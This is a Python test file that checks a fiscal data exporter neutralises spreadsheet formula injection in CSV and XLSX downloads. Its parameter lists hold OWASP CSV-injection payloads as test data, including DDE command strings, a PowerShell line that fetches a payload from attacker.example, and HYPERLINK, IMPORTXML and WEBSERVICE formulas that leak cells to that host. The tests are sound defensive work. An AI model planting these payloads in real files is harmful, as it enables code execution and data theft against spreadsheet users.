"""CSV/XLSX downloads: UTF-8 BOM, formula injection neutralised (OWASP payloads), numbers left as numbers."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from openpyxl import load_workbook

from fiscal import export

# OWASP "CSV Injection" examples and the other characters a spreadsheet may start a formula with.
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-1",
]
BENIGN = ["郴州市医疗保障局", "a=b", "1+1", "医保(=)经费", "", "'quoted already"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _frame() -> pl.DataFrame:
    n = len(PAYLOADS)
    return pl.DataFrame({
        "text": PAYLOADS,
        "amount": [-1.5, 2.25, 0.0, 1234567.89, -0.01] * (n // 5),
        "year": [2022] * n,
        "tags": [["=x", "ok"]] * n,
    })


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_dangerous_cells(payload: str) -> None:
    assert export.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", BENIGN)
def test_neutralise_leaves_plain_text(text: str) -> None:
    assert export.neutralise(text) == text
    assert export.neutralise(None) is None


def test_csv_has_bom_and_is_utf8() -> None:
    data = export.to_csv(pl.DataFrame({"agency": ["郴州市医疗保障局"], "amount": [1.5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert "郴州市医疗保障局" in data.decode("utf-8-sig")


def test_csv_neutralises_text_but_not_numbers() -> None:
    data = export.to_csv(_frame())
    back = export.read_csv(data)
    assert back.get_column("text").to_list() == ["'" + p for p in PAYLOADS]
    # numbers stay numbers: a negative amount is written as a bare number, read back as float
    assert back.schema["amount"] == pl.Float64
    assert back.get_column("amount").to_list() == _frame().get_column("amount").to_list()
    assert "\n-1.5," in data.decode("utf-8-sig").replace("\r\n", "\n") or ",-1.5," in data.decode("utf-8-sig")
    # list cells are joined, and then neutralised as text
    assert back.get_column("tags")[0] == "'=x; ok"
    # no cell starts like a formula
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    assert not [c for c in cells if c.startswith(export.DANGEROUS_START) and not _is_number(c)]


def test_csv_round_trips_plain_rows() -> None:
    df = pl.DataFrame({"agency": BENIGN, "amount": [1.0, 2.0, 3.0, 4.0, 5.0, 6.0], "year": [2021] * 6})
    back = export.read_csv(export.to_csv(df))
    assert back.get_column("amount").to_list() == df.get_column("amount").to_list()
    assert back.get_column("agency").fill_null("").to_list() == BENIGN


def test_xlsx_has_no_formulas_and_keeps_numbers() -> None:
    data = export.to_xlsx(_frame(), sheet="sangong")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "sangong"
    header = [c.value for c in ws[1]]
    assert header == ["text", "amount", "year", "tags"]
    for row in ws.iter_rows(min_row=2):
        text, amount, year, tags = row
        assert text.data_type == "s" and str(text.value).startswith("'")
        assert amount.data_type == "n" and isinstance(amount.value, (int, float))
        assert year.value == 2022
        assert tags.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# The OWASP "CSV Injection" cheat-sheet payloads (DDE, HYPERLINK, IMPORTXML …) and variants with
# every leading character a spreadsheet may read as the start of a formula.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "\r\n=1+1",
    "\n=1",
    "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click for further information\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://attacker.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://attacker.example/?\"&A1)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=0+0&\"郴州市\"",
]


def _owasp_frame() -> pl.DataFrame:
    n = len(OWASP_PAYLOADS)
    return pl.DataFrame({
        "agency": OWASP_PAYLOADS,
        "note": ["x;" + p for p in OWASP_PAYLOADS],  # a ';' list separator must not open a new cell
        "amount": [(-1.0) ** i * (i + 0.25) for i in range(n)],
        "year": list(range(2000, 2000 + n)),
    })


def test_owasp_payloads_neutralised_in_csv() -> None:
    df = _owasp_frame()
    data = export.to_csv(df)
    back = export.read_csv(data)
    assert back.get_column("agency").to_list() == ["'" + p for p in OWASP_PAYLOADS]
    assert back.get_column("note").to_list() == df.get_column("note").to_list()
    assert back.schema["amount"] == pl.Float64 and back.schema["year"] == pl.Int64
    assert back.get_column("amount").to_list() == df.get_column("amount").to_list()
    assert back.get_column("year").to_list() == df.get_column("year").to_list()
    text = data.decode("utf-8-sig")
    # every text cell is quoted; numbers are bare (negative ones too)
    assert '"x;=cmd|\' /C calc\'!A0"' in text
    assert ",-1.25," in text
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(export.DANGEROUS_START) and not _is_number(c)]


def test_owasp_payloads_are_never_formulas_in_xlsx() -> None:
    df = _owasp_frame().with_columns(pl.lit("控制\x01字符\x0b").alias("ctl"))
    wb = load_workbook(io.BytesIO(export.to_xlsx(df, sheet="owasp")))
    ws = wb.active
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(OWASP_PAYLOADS)
    def xml(text: str) -> str:  # XML stores a CR as LF
        return text.replace("\r\n", "\n").replace("\r", "\n")

    for payload, (agency, note, amount, year, ctl) in zip(OWASP_PAYLOADS, rows):
        assert agency.data_type == "s" and xml(agency.value) == xml("'" + payload)
        assert note.data_type == "s" and xml(note.value) == xml("x;" + payload)
        assert amount.data_type == "n" and isinstance(amount.value, float)
        assert year.data_type == "n" and isinstance(year.value, int)
        assert ctl.value == "控制字符"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # also with formulas evaluated nowhere: openpyxl's data_only view sees the same strings
    wb2 = load_workbook(io.BytesIO(export.to_xlsx(df)), data_only=True)
    assert [xml(c.value) for c in wb2.active["A"][1:]] == [xml("'" + p) for p in OWASP_PAYLOADS]


def test_numbers_stay_numbers_in_both_formats() -> None:
    df = pl.DataFrame({"amount": [-1.5, 0.0, None, 1e9], "n": [-3, 0, None, 7], "label": ["-1.5", "+1", None, "1"]})
    back = export.read_csv(export.to_csv(df))
    assert back.get_column("amount").to_list() == [-1.5, 0.0, None, 1e9]
    assert back.get_column("n").to_list() == [-3, 0, None, 7]
    # text that looks like a signed number is still text and is neutralised
    assert back.get_column("label").to_list() == ["'-1.5", "'+1", None, "1"]
    ws = load_workbook(io.BytesIO(export.to_xlsx(df))).active
    assert [c.value for c in ws["A"][1:]] == [-1.5, 0, None, 1e9]
    assert [c.data_type for c in ws["A"][1:] if c.value is not None] == ["n", "n", "n"]
